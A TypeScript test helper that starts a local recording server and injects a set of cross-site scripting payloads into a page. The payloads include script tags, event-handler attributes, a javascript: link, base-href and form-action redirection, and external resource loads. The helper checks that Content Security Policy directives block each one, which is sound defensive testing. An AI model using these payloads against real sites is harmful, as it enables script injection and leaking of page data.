import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';

/** A site of somebody else, which notes what it is asked for. */
export interface Elsewhere {
  readonly origin: string;
  /** Paths that were asked for. */
  readonly asked: string[];
  close(): Promise<void>;
}

export async function openElsewhere(): Promise<Elsewhere> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end('');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    asked,
    close: () =>
      new Promise((resolve) => {
        server.close(() => {
          resolve();
        });
        server.closeAllConnections();
      }),
  };
}

/** What somebody writes into a page who found a hole in a template: code, and what carries a page's words elsewhere. */
const injectedMarkup = (origin: string): string => `
<base href="${origin}/base/">
<script>alert(1)</script>
<script src="${origin}/script.js"></script>
<img src="${origin}/picture.png" onerror="alert(1)">
<svg onload="alert(1)"><animate onbegin="alert(1)" attributeName="x"></animate></svg>
<iframe src="${origin}/frame"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<object data="${origin}/object"></object>
<embed src="${origin}/embed">
<audio src="${origin}/sound" autoplay></audio>
<link rel="stylesheet" href="${origin}/style.css">
<style>@import url("${origin}/import.css");</style>
<p style="background: url(${origin}/inline.png)">words</p>
<a id="injected-link" href="javascript:alert(1)">a link</a>
<form id="injected-form" action="${origin}/form" method="post" target="_blank"><button>send</button></form>`;

/** Directives that have to stop one of these each. */
export const STOPPING = [
  'base-uri',
  'form-action',
  'frame-src',
  'img-src',
  'media-src',
  'object-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-elem',
];

/**
 * Writes the markup into a page that stands open, as its own parser would have, and presses what can be pressed. A
 * fragment of a range runs its scripts, where `innerHTML` would not.
 */
export async function injectInto(page: Page, { origin }: Elsewhere): Promise<void> {
  await page.evaluate((markup) => {
    const { document } = globalThis as unknown as {
      document: {
        body: { append(part: unknown): void };
        createRange(): { createContextualFragment(html: string): unknown };
        querySelector(selector: string): { click(): void };
      };
    };
    document.body.append(document.createRange().createContextualFragment(markup));
    document.querySelector('#injected-link').click();
    document.querySelector('#injected-form button').click();
  }, injectedMarkup(origin));
}
